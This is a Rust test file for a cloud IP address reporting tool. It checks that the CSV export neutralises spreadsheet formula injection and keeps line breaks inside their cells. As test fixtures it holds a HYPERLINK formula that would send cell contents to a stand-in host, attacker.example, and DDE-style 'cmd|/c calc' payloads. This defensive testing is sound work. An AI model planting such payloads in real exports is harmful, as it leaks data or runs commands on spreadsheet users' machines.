//! CSV a spreadsheet opens safely: a tag someone wrote as a formula comes out
//! as text, and a tag with a line break stays in its cell.

use chrono::{TimeZone, Utc};
use vpcwarden_ipv4::{report, Holder, HolderKind, Kind, PublicAddress};
use vpcwarden_report::{render, Format, Report};

fn address(tags: Vec<(String, String)>) -> PublicAddress {
    PublicAddress {
        public_ip: "198.18.0.1".into(),
        account: "111122223333".into(),
        region: "us-east-1".into(),
        kind: Kind::ElasticIp,
        holder: Holder {
            kind: HolderKind::Nothing,
            id: None,
        },
        network_interface_id: None,
        interface_type: None,
        description: None,
        allocation_id: Some("eipalloc-0123456789abcdef0".into()),
        ip_owner_id: None,
        public_ipv4_pool: Some("amazon".into()),
        subnet_id: None,
        vpc_id: None,
        availability_zone: None,
        subnet_auto_assign: None,
        has_ipv6: false,
        tags,
        instance_state: None,
        snapshot_time: Some(Utc.with_ymd_and_hms(2026, 12, 1, 6, 0, 0).unwrap()),
    }
}

fn cells(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn a_formula_in_a_tag_is_inert_and_a_newline_stays_in_its_cell() {
    let evil = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")";
    let r = report(
        &[address(vec![
            ("Name".into(), "line one\nline two\r\nthree".into()),
            ("owner".into(), evil.into()),
        ])],
        None,
        "vpcwarden:keep",
    );
    let out = render(Report::PublicIpv4(&r), Format::Csv);
    let rows = cells(&out);
    assert_eq!(
        rows.len(),
        2,
        "a header and one address, whatever the line breaks:\n{out}"
    );
    let header = &rows[0];
    let tags = &rows[1][header.iter().position(|h| h == "tags").unwrap()];
    // The whole tags cell starts with the Name tag; the formula sits inside it.
    assert_eq!(
        tags,
        &format!("Name=line one\nline two\r\nthree;owner={evil}")
    );

    // A cell that begins with the formula is made text by a leading quote.
    let r = report(&[address(vec![])], None, "vpcwarden:keep");
    let mut row = r.addresses[0].clone();
    row.address.tags = vec![];
    row.way_out.as_mut().unwrap().action = evil.into();
    let r = vpcwarden_ipv4::Ipv4Report {
        addresses: vec![row],
        ..r
    };
    let rows = cells(&render(Report::PublicIpv4(&r), Format::Csv));
    let action = &rows[1][rows[0].iter().position(|h| h == "way_out").unwrap()];
    assert_eq!(action, &format!("'{evil}"));
    for prefix in ["+", "-", "@"] {
        assert_eq!(
            vpcwarden_report::neutralise(&format!("{prefix}cmd|'/c calc'!A0")),
            format!("'{prefix}cmd|'/c calc'!A0")
        );
    }
}
